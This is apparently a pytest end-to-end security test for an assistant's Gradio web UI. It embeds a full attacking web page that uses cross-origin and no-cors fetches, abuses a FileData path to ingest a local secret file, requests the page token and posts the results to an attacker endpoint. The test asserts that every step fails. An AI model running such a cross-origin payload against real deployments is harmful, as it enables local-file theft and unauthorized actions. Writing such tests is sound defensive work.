"""A web page on another loopback port must not be able to use the web UI: it cannot make the UI
ingest a local file and read it back, cannot call its private endpoints, gets no CORS header; a
state change from a browser needs the page token; a path named in a FileData is never read."""

from __future__ import annotations

import http.server
import json
import threading
import urllib.error
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from assistant import Article, Assistant
from tests.helpers.browser import open_app
from tests.helpers.servers import free_port

pytestmark = pytest.mark.e2e
SECRET = "plum-anchor-4471"

# The attack a tester ran from outside, as a page: upload a local path through the UI's own upload
# handler (a FileData naming it), then ask about it and send the answer home; also list and delete
# articles through the private endpoints. Each step is tried as a CORS request and as a no-cors one
# (a simple request the browser sends without a preflight; its answer is opaque, its effect is not).
ATTACK = """<!doctype html><html><body><script>
const ui = "@UI@", report = [];
async function tryCall(name, body, mode) {
  try {
    const r = await fetch(ui + "gradio_api/call/" + name, {method: "POST", mode, body: JSON.stringify(body),
      headers: {"Content-Type": mode === "cors" ? "application/json" : "text/plain"}});
    if (mode !== "cors") { report.push(name + " " + mode + ": sent"); return null; }
    const {event_id} = await r.json();
    const result = await (await fetch(ui + "gradio_api/call/" + name + "/" + event_id)).text();
    report.push(name + " " + mode + ": " + result);
    return result;
  } catch (e) { report.push(name + " " + mode + ": " + e); return null; }
}
async function tryQueue(fn, data, mode) {
  try {
    const r = await fetch(ui + "gradio_api/queue/join", {method: "POST", mode,
      headers: {"Content-Type": mode === "cors" ? "application/json" : "text/plain"},
      body: JSON.stringify({data, fn_index: fn, session_hash: "attacker", event_data: null, trigger_id: null})});
    report.push("queue " + fn + " " + mode + ": " + (mode === "cors" ? await r.text() : "sent"));
  } catch (e) { report.push("queue " + fn + " " + mode + ": " + e); }
}
(async () => {
  const file = [{path: "@PATH@", meta: {_type: "gradio.FileData"}, orig_name: "notes.md"}];
  for (const mode of ["cors", "no-cors"]) {
    await tryCall("upload", {data: [file]}, mode);
    await tryQueue(@UPLOAD@, [file], mode);
    await tryQueue(@DELETE@, ["victim", "", 1], mode);
  }
  await new Promise((done) => setTimeout(done, 1500));
  await tryCall("ask", {data: ["What is the backup vault passphrase?"]}, "cors");
  try { report.push("token: " + await (await fetch(ui + "assistant-token")).text()); }
  catch (e) { report.push("token: " + e); }
  await fetch("/report", {method: "POST", body: JSON.stringify(report)});
})();
</script></body></html>"""


class Attacker:
    """The other web page's server, on another loopback port: serves the page, receives its report."""

    def __init__(self, page: str) -> None:
        self.reports: list[list[str]] = []
        outer = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802
                body = page.encode()
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def do_POST(self) -> None:  # noqa: N802
                outer.reports.append(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
                self.send_response(204)
                self.end_headers()

            def log_message(self, *args: Any) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


def fn_index(demo: Any, name: str) -> int:
    """The index of the event handler whose function is called ``name`` (as the page would know it)."""
    return next(i for i, f in enumerate(demo.fns.values()) if getattr(f.fn, "__name__", "") == name)


@pytest.fixture(scope="module")
def ui(tmp_path_factory: pytest.TempPathFactory, seed_bot: Assistant) -> Iterator[tuple[str, Assistant, Any]]:
    from ui import app as ui_app

    built: list[Any] = []
    original = ui_app.build_app
    bot = Assistant.build([], tmp_path_factory.mktemp("cross-origin") / "index", seed_bot.settings)
    bot.add([Article(text="The harbour festival drew crowds on Sunday.", title="Festival", key="victim")])
    port = free_port()
    ui_app.build_app = lambda a: built.append(original(a)) or built[-1]  # type: ignore[assignment]
    try:
        server = ui_app.launch(bot, host="127.0.0.1", port=port, block=False)
    finally:
        ui_app.build_app = original  # type: ignore[assignment]
    try:
        yield f"http://127.0.0.1:{port}/", bot, built[0]
    finally:
        server.close()


def test_a_page_on_another_loopback_port_cannot_read_a_local_file_through_the_ui(
    ui: Any, chromium: Any, tmp_path: Path
) -> None:
    url, bot, demo = ui
    notes = tmp_path / "private-notes.md"
    notes.write_text(f"Vault notes\n\nThe backup vault passphrase is {SECRET}.\n")
    page_html = (
        ATTACK.replace("@UI@", url)
        .replace("@PATH@", str(notes))
        .replace("@UPLOAD@", str(fn_index(demo, "on_upload")))
        .replace("@DELETE@", str(fn_index(demo, "on_delete")))
    )
    attacker = Attacker(page_html)
    page = chromium.new_page()
    try:
        page.goto(attacker.url, wait_until="load")
        for _ in range(200):
            if attacker.reports:
                break
            page.wait_for_timeout(100)
        assert attacker.reports, "the attacking page ran to its end"
        report = attacker.reports[0]
        assert not any(SECRET in line for line in report), report
        assert all("token: " not in line or "." not in line.split("token: ")[1] for line in report), report
        assert bot.info().articles == 1, "nothing was ingested"
        assert bot.index.article("victim") is not None, "nothing was deleted"
        assert not any(SECRET in a.text for a in bot.index.store.docs.iter_articles())
        attacker.server.shutdown()
        # the UI itself still works in the same browser: asking from its own page
        own = chromium.new_page()
        try:
            open_app(own, url)
            own.locator("#question textarea").fill("When was the harbour festival?")
            own.locator("#question textarea").press("Enter")
            own.wait_for_function("document.querySelector('#sources').innerText.includes('Sources')", timeout=60_000)
        finally:
            own.close()
    finally:
        page.close()


def _request(url: str, method: str = "GET", body: bytes | None = None, **headers: str) -> tuple[int, dict[str, str]]:
    request = urllib.request.Request(url, data=body, method=method, headers=headers)
    try:
        with urllib.request.urlopen(request, timeout=30) as r:
            return r.status, dict(r.headers)
    except urllib.error.HTTPError as e:
        return e.code, dict(e.headers)


def test_cross_origin_requests_get_403_and_no_cors_headers(ui: Any) -> None:
    url, _, _ = ui
    other = "http://127.0.0.1:1"
    join = url + "gradio_api/queue/join"
    status, headers = _request(
        join, "OPTIONS", Origin=other, **{"Access-Control-Request-Method": "POST"}
    )  # a preflight
    assert status == 403 and not any(h.lower().startswith("access-control") for h in headers)
    assert _request(join, "POST", b"{}", Origin=other, **{"Content-Type": "text/plain"})[0] == 403
    assert _request(url + "gradio_api/info", **{"Sec-Fetch-Site": "same-site"})[0] == 403
    assert _request(url + "assistant-token", Origin=other)[0] == 403
    link = {"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "navigate", "Sec-Fetch-Dest": "document"}
    assert _request(url, **link)[0] == 200, "a link followed from another site opens the page"
    assert _request(url + "assistant-token", **link)[0] == 403, "but not the token"
    assert _request(url + "gradio_api/info", **{**link, "Sec-Fetch-Dest": "iframe"})[0] == 403
    # the UI's own origin, from a browser, still needs the page token to change anything
    own = url.rstrip("/")
    assert _request(join, "POST", b"{}", Origin=own, **{"Content-Type": "application/json"})[0] == 403
    with urllib.request.urlopen(url + "assistant-token", timeout=30) as r:
        token = r.read().decode()
    forged = token.split(".")[0] + "." + "0" * 64
    assert _request(join, "POST", b"{}", Origin=own, **{"X-Assistant-Token": forged})[0] == 403
    good = _request(join, "POST", b"{}", Origin=own, **{"X-Assistant-Token": token, "Content-Type": "application/json"})
    assert good[0] == 422, "with the token the request reaches Gradio (which finds the body incomplete)"


def _call(url: str, name: str, data: list[Any]) -> str:
    """A Gradio API call as any program sends it (no browser headers): POST, then read its events."""
    body = json.dumps({"data": data}).encode()
    request = urllib.request.Request(
        f"{url}gradio_api/call/{name}", data=body, headers={"Content-Type": "application/json"}
    )
    with urllib.request.urlopen(request, timeout=30) as r:
        event = json.loads(r.read())["event_id"]
    with urllib.request.urlopen(f"{url}gradio_api/call/{name}/{event}", timeout=60) as r:
        return r.read().decode()


def test_a_file_data_path_outside_the_upload_folder_is_never_read(ui: Any, tmp_path: Path) -> None:
    from gradio_client import Client, handle_file

    url, bot, _ = ui
    notes = tmp_path / "notes.md"
    notes.write_text(f"Vault notes\n\nThe backup vault passphrase is {SECRET}.\n")
    before = bot.info().articles
    named = {"path": str(notes), "meta": {"_type": "gradio.FileData"}, "orig_name": "notes.md"}
    events = _call(url, "upload", [[named]])
    assert "event: error" in events and "added" not in events, events
    assert bot.info().articles == before
    # the real upload route still works: the client sends the file's bytes and gets an upload path
    report, _ = Client(url, verbose=False).predict([handle_file(str(notes))], api_name="/upload")
    assert "1 added" in report and bot.info().articles == before + 1
    bot.remove([a.id for a in bot.index.store.docs.iter_articles() if SECRET in a.text])


def test_beyond_loopback_the_ui_needs_the_key_to_start_and_to_use(
    seed_bot: Assistant, monkeypatch: pytest.MonkeyPatch
) -> None:
    import http.cookiejar

    from assistant import ConfigurationError
    from ui.app import launch

    monkeypatch.delenv("ASSISTANT_API_KEY", raising=False)
    with pytest.raises(ConfigurationError, match="ASSISTANT_API_KEY"):
        launch(seed_bot, host="0.0.0.0", port=free_port(), block=False)
    monkeypatch.setenv("ASSISTANT_API_KEY", "ui-key-5")
    port = free_port()
    server = launch(seed_bot, host="0.0.0.0", port=port, block=False)
    try:
        base = f"http://127.0.0.1:{port}/"
        assert _request(base + "config")[0] == 401, "nothing is served before logging in"
        assert _call_status(base, "ask", ["What channels did the US use?"]) == 401
        assert _request(base + "assistant-token")[0] == 401, "the page token needs the login too"
        cancel = urllib.request.Request(base + "gradio_api/cancel", b"{}", {"Content-Type": "application/json"})
        with pytest.raises(urllib.error.HTTPError) as refused:
            urllib.request.urlopen(cancel, timeout=30)
        assert refused.value.code == 401, "so does cancelling an event"
        jar = http.cookiejar.CookieJar()
        opener = urllib.request.build_opener(urllib.request.HTTPCookieProcessor(jar))
        form = b"username=reader&password=wrong"
        with pytest.raises(urllib.error.HTTPError):
            opener.open(urllib.request.Request(base + "login", form, method="POST"), timeout=30)
        opener.open(urllib.request.Request(base + "login", b"username=reader&password=ui-key-5", method="POST"))
        with opener.open(base + "config", timeout=30) as r:
            assert r.status == 200, "logged in with the key as the password"
        with opener.open(base + "assistant-token", timeout=30) as r:
            assert r.status == 200 and b"." in r.read()
    finally:
        server.close()


def _call_status(url: str, name: str, data: list[Any]) -> int:
    try:
        _call(url, name, data)
    except urllib.error.HTTPError as e:
        return e.code
    return 200
